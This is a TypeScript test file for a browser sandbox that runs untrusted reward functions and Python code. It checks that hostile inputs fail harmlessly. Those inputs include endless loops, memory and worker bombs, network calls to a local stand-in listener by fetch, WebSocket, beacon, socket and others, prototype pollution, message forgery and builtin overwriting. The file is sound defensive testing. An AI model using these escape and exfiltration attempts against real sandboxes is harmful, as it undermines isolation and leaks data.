/** Foreign code in a real browser: it loses its own result, the page stays alive, and nothing leaves the machine. */
import type { AddressInfo } from 'node:net';
import { createServer as createTcpServer } from 'node:net';
import type { Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SandboxScore, PythonProgram, RewardCall } from '../../src/protocol';
import { servedSources } from '../support/browser/served';
import type { SandboxPage } from './pages/sandbox';

const sources = servedSources(false);

let connections = 0;
const listener = createTcpServer((socket) => {
  connections++;
  socket.destroy();
});
let elsewhere: string;
let page: Page;
/** Requests that left the browser for anywhere but the page's own server. */
const left: string[] = [];

beforeAll(async () => {
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  elsewhere = `127.0.0.1:${(listener.address() as AddressInfo).port}`;
  page = await sources.browser.newPage();
  const own = sources.served.address;
  const foreign = (request: Request) =>
    /^(https?|wss?):/.test(request.url()) && !request.url().startsWith(own);
  page.context().on('response', (response) => foreign(response.request()) && left.push(response.url()));
  page.context().on('requestfailed', (request) => {
    const reason = request.failure()?.errorText ?? '';
    if (foreign(request) && reason !== 'csp') left.push(`${request.url()}: ${reason}`);
  });
  await page.goto(`${own}test/e2e/pages/sandbox.html`);
  await page.waitForFunction('window.sandbox !== undefined');
});

afterAll(() => void listener.close());

type Window = typeof globalThis & { sandbox: SandboxPage };
const verdict = <T>(result: SandboxScore<T>) => (result.ok ? result.value : result.fault);

async function rewards(source: string, ...responses: string[]) {
  const calls: RewardCall[] = responses.map((response) => ({ response, example: { answer: '42' } }));
  const { results, turns } = await page.evaluate(
    ([source, calls]) => (window as unknown as Window).sandbox.rewards(source, calls),
    [source, calls] as const,
  );
  return { verdicts: results.map(verdict), results, turns };
}

async function python(...programs: PythonProgram[]) {
  const { results } = await page.evaluate(
    (programs) => (window as unknown as Window).sandbox.python(programs),
    programs,
  );
  return results.map(verdict);
}

const harmless = '(text) => text.length';

async function expectUnharmed(): Promise<void> {
  expect((await rewards(harmless, 'a', 'bb')).verdicts).toEqual([1, 2]);
  expect(connections).toBe(0);
  expect(left).toEqual([]);
}

describe('a reward function in the browser', () => {
  it.each([
    ['an endless loop', '() => { for (;;); }', ['timed out']],
    ['a catastrophic regular expression', '() => +/^(a+)+$/.test("a".repeat(40) + "!")', ['timed out']],
    [
      'an endless chain of promises',
      '() => { const go = () => Promise.resolve().then(go); go(); for (;;); }',
      ['timed out'],
    ],
    ['a thrown error', '() => { throw new Error("no"); }', ['threw']],
    ['an error that throws', '() => { throw { get message() { throw 1; } }; }', ['threw']],
    ['no number', '() => NaN', ['not a number']],
    ['a promise', 'async () => 1', ['not a number']],
  ])('%s is counted, and the page lives on', async (_what, source, expected) => {
    const { verdicts, turns } = await rewards(source, 'a');
    expect(verdicts).toEqual(expected);
    if (expected[0] === 'timed out') expect(turns).toBeGreaterThan(5); // of about 50
    await expectUnharmed();
  });

  it.each([
    ['arrays', '() => { const all = []; for (;;) all.push(new Array(1e6).fill(0.5)); }'],
    ['text', '() => { let all = "x"; for (;;) all += all + all; }'],
    [
      'buffers',
      '() => { const all = []; for (let i = 0; i < 3e4; i++) all.push(new ArrayBuffer(2 ** 26)); return NaN; }',
    ],
  ])('a memory bomb of %s has no reward, and the page lives on', async (_what, source) => {
    expect((await rewards(source, 'a')).verdicts[0]).toBeTypeOf('string');
    await expectUnharmed();
  });

  it('that hangs on one answer is asked about the others', async () => {
    const source = '(text) => { if (text === "loop") for (;;); return 1; }';
    expect((await rewards(source, 'a', 'loop', 'b')).verdicts).toEqual([1, 'timed out', 1]);
  });

  it.each([
    ['fetch', (to: string) => `fetch("http://${to}/")`],
    ['a web socket', (to: string) => `new WebSocket("ws://${to}/")`],
    ['an event source', (to: string) => `new EventSource("http://${to}/")`],
    [
      'a request',
      (to: string) => `const r = new XMLHttpRequest(); r.open("GET", "http://${to}/", false); r.send()`,
    ],
    ['a script', (to: string) => `importScripts("http://${to}/x.js")`],
    ['a module', (to: string) => `import("http://${to}/x.js")`],
    ['a data module', (to: string) => `import("data:text/javascript,import('http://${to}/')")`],
    ['a worker', (to: string) => `new Worker("http://${to}/x.js")`],
    ['an image', (to: string) => `new Image().src = "http://${to}/x.png"`],
    ['a beacon', (to: string) => `navigator.sendBeacon("http://${to}/")`],
    ['a call', () => `new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1" }] })`],
    ['another page', (to: string) => `location.href = "http://${to}/"`],
    ['another page above', (to: string) => `top.location = "http://${to}/"`],
    ['web transport', (to: string) => `new WebTransport("https://${to}/")`],
  ])('reaches no server by %s', async (_what, attack) => {
    const source = `() => { try { ${attack(elsewhere)} } catch {} return 1; }`;
    await rewards(source, 'a', 'b');
    await page.waitForTimeout(200);
    await expectUnharmed();
  });

  it('that brings the network back from a worker or a frame of its own reaches nothing', async () => {
    const source = `() => {
      const url = URL.createObjectURL(new Blob(['fetch("http://${elsewhere}/")'], { type: 'text/javascript' }));
      import(url).catch(() => {});
      const until = performance.now() + 200;
      while (performance.now() < until);
      return typeof Worker + typeof document + typeof parent + typeof opener;
    }`;
    await rewards(source, 'a');
    await expectUnharmed();
  });

  it('would reach nothing either if nothing had been taken from its worker', async () => {
    const frame = page.frames().find((frame) => frame !== page.mainFrame())!;
    const attempts = [
      'fetch("http://HOST/")',
      'new WebSocket("ws://HOST/")',
      'new EventSource("http://HOST/")',
      'importScripts("http://HOST/x.js")',
      'import("http://HOST/x.js").catch(() => {})',
      'new Worker(URL.createObjectURL(new Blob(["fetch(\\"http://HOST/\\")"])))',
      'const r = new XMLHttpRequest(); r.open("GET", "http://HOST/", false); r.send()',
    ].map((attempt) => attempt.replaceAll('HOST', elsewhere));
    const made = await frame.evaluate(async (attempts) => {
      const program = `${attempts.map((attempt) => `try { ${attempt} } catch {}`).join('\n')}; postMessage(self.origin)`;
      const worker = new Worker(URL.createObjectURL(new Blob([program])));
      return new Promise((resolve) => (worker.onmessage = ({ data }) => resolve(data)));
    }, attempts);
    expect(made).toBe('null');
    await page.waitForTimeout(500);
    await expectUnharmed();
  });

  it('finds no page, no parent and no storage', async () => {
    const names = [
      'document',
      'parent',
      'top',
      'opener',
      'localStorage',
      'indexedDB',
      'caches',
      'fetch',
      'Worker',
    ];
    const source = `() => ${JSON.stringify(names)}.filter((name) => typeof self[name] !== 'undefined').length`;
    expect((await rewards(source, 'a')).verdicts).toEqual([0]);
  });

  it('cannot speak for another answer, nor change what the next batch sees', async () => {
    const forge = `(text) => {
      for (const send of [self.postMessage, MessagePort.prototype.postMessage])
        try { send.call(self, { value: 1 }); send.call(self, { ready: true }); } catch {}
      MessagePort.prototype.postMessage = () => {};
      if (!('threw' in {})) Object.defineProperty(Object.prototype, 'threw', { set() { throw 1; } });
      Object.prototype.value = 1;
      Array.prototype.push = JSON.parse = Number = String = Math.max = () => 1;
      return 0.25;
    }`;
    expect((await rewards(forge, 'a', 'b', 'c')).verdicts).toEqual([0.25, 0.25, 0.25]);
    await expectUnharmed();
    expect(await page.evaluate('({}).value')).toBeUndefined();
  });

  it('that starts workers or timers without end changes nothing', async () => {
    const bomb = `() => {
      try { for (let i = 0; i < 1000; i++) new Worker(URL.createObjectURL(new Blob(['for (;;);']))); } catch {}
      const again = () => { setTimeout(again); setTimeout(again); throw new Error('later'); };
      again();
      return 1;
    }`;
    expect((await rewards(bomb, 'a')).verdicts).toEqual(['threw']);
    await expectUnharmed();
  });
});

describe('Python in the browser', () => {
  const program = (code: string, ...tests: string[]): PythonProgram => ({ code, tests });

  it('passes or fails by its tests', async () => {
    const code = 'def double(x):\n    return 2 * x\n';
    expect(
      await python(
        program(code, 'assert double(2) == 4'),
        program(code, 'assert double(2) == 5'),
        program('import math, re, collections', 'assert math.gcd(4, 6) == 2'),
      ),
    ).toEqual([true, false, true]);
    await expectUnharmed();
  });

  it('that is hostile loses its own test and no other’s', async () => {
    const [host, port] = elsewhere.split(':');
    const pollute =
      'import builtins, math\nbuiltins.len = lambda _: 7\nmath.gcd = None\nopen("/home/pyodide/left", "w").write("x")';
    const look =
      'import os, math\nassert len([1]) == 1 and math.gcd(4, 6) == 2 and not os.path.exists("/home/pyodide/left")';
    const attacks = [
      'while True: pass',
      'x = bytearray(2 ** 30)',
      'x = []\nwhile True: x.append("x" * 10 ** 6)',
      'import sys\nsys.exit(0)',
      'import os\nos._exit(0)',
      'import builtins\nbuiltins.exec = lambda *_: None',
      'import js\njs.fetch("/")',
      'import pyodide_js',
      'from pyodide.code import run_js\nrun_js("postMessage({ value: 1 })")',
      `import socket\nsocket.create_connection(("${host}", ${port}), 1).send(b"x")`,
    ];
    const verdicts = await python(...attacks.map((code) => program(code, 'assert False')));
    expect(verdicts.filter((result) => result === true)).toEqual([]);
    expect(verdicts[0]).toBe('timed out');
    expect(await python(program(pollute))).toEqual([true]);
    expect(await python(program(look), program(look))).toEqual([true, true]);
    await expectUnharmed();
  });
});
